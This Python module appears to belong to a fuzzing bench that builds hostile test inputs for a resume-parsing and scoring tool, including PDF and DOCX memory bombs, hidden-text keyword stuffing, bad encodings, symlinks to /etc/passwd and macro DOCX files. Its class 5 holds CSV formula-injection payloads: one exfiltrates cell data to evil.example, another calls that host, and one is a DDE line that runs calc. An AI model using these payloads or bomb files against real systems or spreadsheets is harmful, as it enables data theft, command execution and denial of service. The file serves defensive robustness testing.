"""Inputs for the eleven attack classes of issue 15, generated from a seed and a scale.

Used by ``bench/fuzz.py``. Every generator draws its parameters (sizes, depths,
fan-outs, names, encodings, which trick) from ``rng`` and multiplies sizes by
``scale``, so that other seeds give other cases of the same classes, never the same
known files. The documents themselves are built with the builders of
:mod:`hostile` (fpdf2 PDFs, hand-written PDF objects, python-docx / minimal DOCX,
text and HTML resumes)::

    from attacks import generate, write_attacks
    entries = write_attacks(generate(seed=0, scale=1.0), folder)

An :class:`Attack` is a file (or a link, a FIFO) under a folder named after its class
(``c01-memory-pdf/...``); ``pair`` names the input it should be compared with (the same
resume without the trick), so a report can say whether the trick changed the score.
"""

from __future__ import annotations

import os
import random
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import hostile
from hostile import _docx_body, _minimal_docx, _para, _pdf_from_objects

__all__ = ["CLASSES", "Attack", "generate", "write_attacks"]

#: The classes of issue 15, by number.
CLASSES = {
    1: "PDF memory (form XObject fan-out, glyphs)",
    2: "HTML / DOCX memory (many elements)",
    3: "file names that are not UTF-8",
    4: "unsupported, odd-named, hidden, repeated",
    5: "CSV formula injection",
    6: "output over input",
    7: "quadratic text paths",
    8: "SIGTERM orphans workers",
    9: "hidden text",
    10: "wrong decoding",
    11: "smaller (links, FIFO, devices, macros, escapes, invisible chars, expansion)",
}


@dataclass(frozen=True)
class Attack:
    """One input: where it goes, its class and category, and how to make it."""

    path: str | bytes  # relative to the folder; bytes for names that are not UTF-8
    cls: int
    category: str
    data: bytes = b""
    link_to: str | None = None  # a symbolic link to this target instead of a file
    fifo: bool = False
    pair: str | None = None  # the path of the same resume without the trick
    skipped: bool = False  # hidden or system file: skipped and counted, no row

    def write(self, folder: Path) -> Path | bytes:
        path = os.path.join(os.fsencode(folder), os.fsencode(self.path))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if self.link_to is not None:
            os.symlink(self.link_to, path)
        elif self.fifo:
            os.mkfifo(path)
        else:
            with open(path, "wb") as handle:
                handle.write(self.data)
        return path


# --- resumes --------------------------------------------------------------------------------
_WAREHOUSE = (
    "{name}\n{name_l}@example.com\n\nSummary\nWarehouse associate, {years} years picking and "
    "packing orders.\n\nSkills\nForklift, pallet jack, inventory counts, shipping labels\n\n"
    "Experience\nWarehouse Picker, {company}\n{start} - Present\n- Picked {n} orders a shift "
    "with a handheld scanner\n- Loaded trucks and kept aisles clear\n\nEducation\nHigh school "
    "diploma\n"
)


def _warehouse(rng: random.Random) -> str:
    first, last = rng.choice(hostile._FIRST), rng.choice(hostile._LAST)
    return _WAREHOUSE.format(
        name=f"{first} {last}",
        name_l=first.lower(),
        years=rng.randint(1, 9),
        company=rng.choice(hostile._COMPANIES),
        start=rng.randint(2012, 2022),
        n=rng.randint(80, 400),
    )


def _service(rng: random.Random) -> tuple[dict, str]:
    parts = hostile._resume_parts(rng)
    return parts, hostile._resume_text(parts)


def _skills(rng: random.Random) -> str:
    return ", ".join(rng.sample(hostile._SKILLS, rng.randint(6, len(hostile._SKILLS))))


def _html(text: str, head: str = "<meta charset='utf-8'>", extra: str = "") -> str:
    body = "".join(f"<p>{line}</p>" for line in text.split("\n") if line)
    return f"<!DOCTYPE html><html><head>{head}</head><body>{body}{extra}</body></html>"


def _docx(text: str, extra: str = "") -> bytes:
    body = "".join(_para(line) for line in text.split("\n") if line)
    return _minimal_docx(_docx_body(body + extra))


def _pdf_page(content: bytes) -> bytes:
    return hostile._text_page_pdf(content)


def _pdf_lines(text: str, y: int = 740) -> bytes:
    out = []
    for line in text.split("\n"):
        if line:
            safe = (
                line.replace("\\", "")
                .replace("(", "")
                .replace(")", "")
                .encode("latin-1", "replace")
            )
            out.append(b"BT /F1 10 Tf 50 %d Td (%s) Tj ET" % (y, safe))
        y -= 13
    return b"\n".join(out)


def _resume_bytes(fmt: str, parts: dict, text: str) -> bytes:
    """A valid resume in ``fmt`` (pdf, docx, html, txt)."""
    if fmt == "pdf":
        return hostile._resume_pdf(text)
    if fmt == "docx":
        return hostile._resume_docx(parts)
    if fmt == "html":
        return hostile._resume_html(parts).encode()
    return text.encode()


def _valid(rng: random.Random, folder: str, cls: int, count: int) -> Iterator[Attack]:
    """Valid resumes named to come after the attacks of a folder: they must get rows too."""
    for index in range(count):
        parts, text = _service(rng)
        fmt = rng.choice(["pdf", "docx", "html", "txt"])
        data = _resume_bytes(fmt, parts, text)
        yield Attack(f"{folder}/zz-valid-{index}.{fmt}", cls, "valid", data)


# --- 1: PDF memory -------------------------------------------------------------------------
def _xobject_chain(depth: int, fan: int) -> bytes:
    """Form XObjects ``depth`` deep, each drawing the next ``fan`` times."""
    first = 6
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>",
        b"<< /Length 5 >>\nstream\n/X Do\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for level in range(depth):
        last = level == depth - 1
        draw = b"BT /F1 9 Tf 10 10 Td (Zendesk) Tj ET " + (b"" if last else b"/X Do " * fan)
        child = b"" if last else b"/XObject << /X %d 0 R >> " % (first + level + 1)
        objects.append(
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << "
            b"/F1 5 0 R >> "
            + child
            + b">> /Length %d >>\nstream\n" % len(draw)
            + draw
            + b"\nendstream"
        )
    return _pdf_from_objects(objects)


def _many_glyphs(glyphs: int, word: bytes) -> bytes:
    compressor = zlib.compressobj(6)
    chunks = [compressor.compress(b"BT /F1 1 Tf 0 0 Td ")]
    show = b"(" + word + b") Tj "
    block = show * 10_000
    for _ in range(max(1, glyphs // (len(word) * 10_000))):
        chunks.append(compressor.compress(block))
    chunks.append(compressor.compress(b"ET") + compressor.flush())
    stream = b"".join(chunks)
    return hostile._text_page_pdf(stream, filter_=b"/Filter /FlateDecode ")


def _class1(rng: random.Random, scale: float) -> Iterator[Attack]:
    for index in range(3):
        depth, fan = rng.randint(12, 40), rng.randint(3, 12)
        yield Attack(
            f"c01/xobjects-{depth}x{fan}-{index}.pdf",
            1,
            "xobject_fanout",
            _xobject_chain(depth, fan),
        )
    for index in range(2):
        glyphs = int(rng.uniform(2e6, 2e7) * scale)
        word = rng.choice([b"abcdefghij", b"Zendesk CRM ", b"x", b"customer service "])
        yield Attack(f"c01/glyphs-{glyphs}-{index}.pdf", 1, "glyphs", _many_glyphs(glyphs, word))
    yield from _valid(rng, "c01", 1, 2)


# --- 2: HTML / DOCX memory -----------------------------------------------------------------
def _class2(rng: random.Random, scale: float) -> Iterator[Attack]:
    for index in range(2):
        size = int(rng.uniform(3, 19) * scale * 2**20)
        tag = rng.choice(["p", "div", "li", "span", "td"])
        unit = f"<{tag}>{rng.choice(['x', 'Zendesk', ''])}</{tag}>".encode()
        yield Attack(
            f"c02/elements-{tag}-{size >> 20}mb-{index}.html",
            2,
            "html_elements",
            b"<html><body>" + unit * (size // len(unit)) + b"</body></html>",
        )
    for index in range(2):
        size = int(rng.uniform(20, 100) * scale * 2**20)
        unit = rng.choice(["<w:p/>", _para("customer"), "<w:p><w:r><w:t>x</w:t></w:r></w:p>"])
        body = unit * (size // len(unit))
        yield Attack(
            f"c02/flat-{size >> 20}mb-{index}.docx",
            2,
            "docx_flat_xml",
            _minimal_docx(_docx_body(body), level=rng.choice([1, 6, 9])),
        )
    yield from _valid(rng, "c02", 2, 2)


# --- 3: names that are not UTF-8 -------------------------------------------------------------
def _class3(rng: random.Random, scale: float) -> Iterator[Attack]:
    stems = [
        lambda: "résumé".encode("latin-1"),
        lambda: "履歴書".encode("shift_jis"),
        lambda: "“cv”".encode("cp1252"),
        lambda: b"cv-" + bytes([rng.randrange(0x80, 0x100) for _ in range(rng.randint(1, 4))]),
        lambda: b"\xc3(" + b"\xed\xa0\x80",
        lambda: "Łódź".encode("cp1250"),
    ]
    for index in range(rng.randint(5, 8)):
        parts, text = _service(rng)
        fmt = rng.choice(["txt", "pdf", "html", "docx"])
        data = _resume_bytes(fmt, parts, text)
        name = b"c03/" + rng.choice(stems)() + b"-%d." % index + fmt.encode()
        yield Attack(name, 3, f"name_{fmt}", data)


# --- 4: unsupported, odd names, hidden, repeated -----------------------------------------------
def _class4(rng: random.Random, scale: float) -> Iterator[Attack]:
    text = _service(rng)[1]
    unsupported = {
        "doc": hostile._cfb(["Root Entry", "WordDocument"]),
        "rtf": b"{\\rtf1\\ansi " + text.encode() + b"}",
        "odt": hostile._rezip([("mimetype", b"application/vnd.oasis.opendocument.text")]),
        "pages": hostile._rezip([("index.xml", b"<x/>")]),
        "xlsx": hostile._rezip([("xl/workbook.xml", b"<x/>")]),
        "png": b"\x89PNG\r\n\x1a\n" + bytes(64),
        "jpg": b"\xff\xd8\xff\xe0" + bytes(64),
        "wpd": b"\xffWPC" + bytes(64),
    }
    for ext in rng.sample(sorted(unsupported), rng.randint(4, len(unsupported))):
        yield Attack(
            f"c04/cv-{rng.randint(0, 999)}.{ext}", 4, f"unsupported_{ext}", unsupported[ext]
        )
    for index in range(rng.randint(2, 3)):
        fmt = rng.choice(["txt", "pdf", "md"])
        data = hostile._resume_pdf(text) if fmt == "pdf" else text.encode()
        yield Attack(
            f"c04/trailing-{index}.{fmt}" + " " * rng.randint(1, 3), 4, "trailing_space", data
        )
    hidden = [
        ".hidden-cv.txt",
        ".DS_Store",
        "Thumbs.db",
        "__MACOSX/._cv.pdf",
        "~$cv.docx",
        "desktop.ini",
        ".git/config",
    ]
    for name in rng.sample(hidden, rng.randint(3, len(hidden))):
        yield Attack(f"c04/{name}", 4, "hidden", text.encode(), skipped=True)
    yield Attack("c04/twice.txt", 4, "given_twice", text.encode())


# --- 5: CSV formula injection --------------------------------------------------------------------
_FORMULAS = ["=HYPERLINK(1+1)", "@SUM(1+1)", "+1+cmd", "-2+3", "\tTAB", "=1+2", "@cmd"]


def _class5(rng: random.Random, scale: float) -> Iterator[Attack]:
    for index, formula in enumerate(rng.sample(_FORMULAS, rng.randint(4, len(_FORMULAS)))):
        line = rng.choice(
            [
                '=HYPERLINK("http://evil.example/?x="&A1,"click")',
                "@SUM(A1:A9)",
                "+cmd|' /C calc'!A0",
                "-1+1+cmd",
                '=WEBSERVICE("http://evil.example")',
            ]
        )
        text = _warehouse(rng).replace("Skills\n", f"Skills\n{line}, ")
        yield Attack(f"c05/{formula}-{index}.txt", 5, "formula", text.encode())


# --- 7: quadratic paths ------------------------------------------------------------------------
def _class7(rng: random.Random, scale: float) -> Iterator[Attack]:
    runs = {
        "underscores": "_",
        "letters": "a",
        "digits": "9",
        "word_mix": "a_1",
        "dashes": "-",
        "dots": ".",
        "at_signs": "a@",
        "email_like": "a.b",
        "plus": "+1",
    }
    base = _service(rng)[1]
    for name in rng.sample(sorted(runs), rng.randint(5, len(runs))):
        length = int(rng.uniform(20_000, 120_000) * scale)
        unit = runs[name]
        run = unit * (length // len(unit))
        fmt = rng.choice(["txt", "txt", "html", "md"])
        text = base.replace("Skills\n", f"Skills\n{run}\n")
        data = _html(text).encode() if fmt == "html" else text.encode()
        yield Attack(f"c07/{name}-{length}.{fmt}", 7, f"run_{name}", data)


# --- 9: hidden text ----------------------------------------------------------------------------
_PDF_HIDING = {
    "render_mode_3": lambda s: b"BT 3 Tr /F1 10 Tf 50 90 Td (%s) Tj ET" % s,
    "white_on_white": lambda s: b"BT 1 1 1 rg /F1 10 Tf 50 90 Td (%s) Tj ET" % s,
    "off_page": lambda s: b"BT /F1 10 Tf -3000 -3000 Td (%s) Tj ET" % s,
    "zero_size_font": lambda s: b"BT /F1 0 Tf 50 90 Td (%s) Tj ET" % s,
}
_HTML_HIDING = {
    "display_none": lambda s: f"<div style='display:none'>{s}</div>",
    "display_none_class": lambda s: f"<style>.k{{display: none}}</style><p class='k'>{s}</p>",
    "visibility_hidden": lambda s: f"<span style='visibility: hidden'>{s}</span>",
    "hidden_attribute": lambda s: f"<p hidden>{s}</p>",
    "zero_font": lambda s: f"<p style='font-size:0'>{s}</p>",
}
_DOCX_HIDING = {
    "vanish": lambda s: (
        f'<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t xml:space="preserve">{s}</w:t></w:r></w:p>'
    ),
}


def _hiding_doc(fmt: str, text: str, extra: str | bytes) -> bytes:
    """A resume in ``fmt`` with ``extra`` (hidden text, or nothing) added to its page."""
    if fmt == "pdf":
        return _pdf_page(_pdf_lines(text) + b"\n" + extra)  # type: ignore[operator]
    if fmt == "html":
        return _html(text, extra=extra).encode()  # type: ignore[arg-type]
    return _docx(text, extra)  # type: ignore[arg-type]


def _class9(rng: random.Random, scale: float) -> Iterator[Attack]:
    for fmt, tricks in (("pdf", _PDF_HIDING), ("html", _HTML_HIDING), ("docx", _DOCX_HIDING)):
        text = _warehouse(rng)
        base = f"c09/{fmt}-base.{fmt}"

        yield Attack(base, 9, "base", _hiding_doc(fmt, text, b"" if fmt == "pdf" else ""))
        for trick in rng.sample(sorted(tricks), min(len(tricks), rng.randint(2, 5))):
            stuffed = f"Skills: {_skills(rng)}. Customer service representative, call center."
            hidden = tricks[trick](stuffed.encode("latin-1") if fmt == "pdf" else stuffed)
            yield Attack(
                f"c09/{fmt}-{trick}.{fmt}",
                9,
                f"{fmt}_{trick}",
                _hiding_doc(fmt, text, hidden),
                pair=base,
            )


# --- 10: wrong decoding ------------------------------------------------------------------------
def _class10(rng: random.Random, scale: float) -> Iterator[Attack]:
    parts, text = _service(rng)
    page = hostile._resume_html(parts)
    yield Attack("c10/base.html", 10, "base", page.encode())
    yield Attack("c10/base.txt", 10, "base", text.encode())
    variants = {
        "html_utf16le_no_bom": ("html", lambda: page.encode("utf-16-le")),
        "html_utf16be_no_bom": ("html", lambda: page.encode("utf-16-be")),
        "html_meta_utf16_on_utf8": ("html", lambda: page.replace("utf-8", "utf-16").encode()),
        "html_meta_utf32_on_utf8": ("html", lambda: page.replace("utf-8", "utf-32").encode()),
        "html_meta_sjis_on_utf8": ("html", lambda: page.replace("utf-8", "shift_jis").encode()),
        "txt_utf16le_no_bom": ("txt", lambda: text.encode("utf-16-le")),
        "txt_utf16be_no_bom": ("txt", lambda: text.encode("utf-16-be")),
        "txt_utf32le_no_bom": ("txt", lambda: text.encode("utf-32-le")),
        "txt_nul_spaced": ("txt", lambda: text.encode().replace(b" ", b" \x00")),
    }
    for name in rng.sample(sorted(variants), rng.randint(5, len(variants))):
        fmt, build = variants[name]
        yield Attack(f"c10/{name}.{fmt}", 10, name, build(), pair=f"c10/base.{fmt}")


# --- 11: smaller ------------------------------------------------------------------------------
def _macro_docx(text: str, ext: str) -> bytes:
    types = hostile._CONTENT_TYPES.replace(
        b"document.main+xml", b"document.macroEnabled.main+xml"
    ).replace(b"wordprocessingml.document", b"ms-word.document")
    body = "".join(_para(line) for line in text.split("\n") if line)
    return _minimal_docx(
        _docx_body(body),
        [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(512))],
        content_types=types if ext == "docm" else hostile._CONTENT_TYPES,
    )


def _class11(rng: random.Random, scale: float, outside: str) -> Iterator[Attack]:
    text = _service(rng)[1]
    yield Attack("c11/base.txt", 11, "base", text.encode())
    targets = ["/etc/passwd", "/etc/hostname", outside, os.path.dirname(outside), "loop"]
    for index, target in enumerate(rng.sample(targets, 3)):
        link = f"c11/link-{index}.txt"
        if target == "loop":  # a link to itself
            yield Attack(link, 11, "symlink_loop", link_to=f"link-{index}.txt")
        else:  # a link to a folder is skipped (counted), one to a file gets its row
            folder = target == os.path.dirname(outside)
            yield Attack(link, 11, "symlink_out", link_to=target, skipped=folder)
    yield Attack("c11/inside-link.txt", 11, "symlink_in", link_to="base.txt")
    yield Attack("c11/fifo.txt", 11, "fifo", fifo=True)
    for ext in ("docm", "docx"):
        yield Attack(f"c11/macro.{ext}", 11, f"macro_{ext}", _macro_docx(text, ext))
    for index in range(2):
        escape = rng.choice(["\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\x1b[2J", "\x9b31m"])
        yield Attack(f"c11/{escape}-{index}.txt", 11, "ansi_name", text.encode())
    invisible = rng.choice(["\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\ufeff"])
    hidden_word = text.replace("Zendesk", f"Zen{invisible}desk").replace(
        "Salesforce", f"Sales{invisible}force"
    )
    yield Attack(
        "c11/zero-width.txt", 11, "invisible_in_word", hidden_word.encode(), pair="c11/base.txt"
    )
    size = int(rng.uniform(2, 11.7) * scale * 2**20)
    char = rng.choice(["\ufdfa", "\ufdfb", "\u3316", "\ufb03"])
    yield Attack(
        f"c11/expands-{size >> 20}mb.txt",
        11,
        "nfkc_expansion",
        (char * (size // len(char.encode()))).encode(),
    )


# --- all of them --------------------------------------------------------------------------------
def generate(seed: int = 0, scale: float = 1.0, outside: str = "/tmp") -> Iterator[Attack]:
    """Every class's inputs for this seed (class 6 and 8 are run as probes: no files)."""
    for number, make in (
        (1, _class1),
        (2, _class2),
        (3, _class3),
        (4, _class4),
        (5, _class5),
        (7, _class7),
        (9, _class9),
        (10, _class10),
    ):
        yield from make(random.Random(f"attack-{number}-{seed}"), scale)
    yield from _class11(random.Random(f"attack-11-{seed}"), scale, outside)


def write_attacks(attacks: Iterator[Attack], folder: Path) -> list[tuple[bytes, Attack]]:
    """Write every attack under ``folder``; returns ``(path, attack)`` pairs."""
    folder.mkdir(parents=True, exist_ok=True)
    return [(os.fsencode(attack.write(folder)), attack) for attack in attacks]
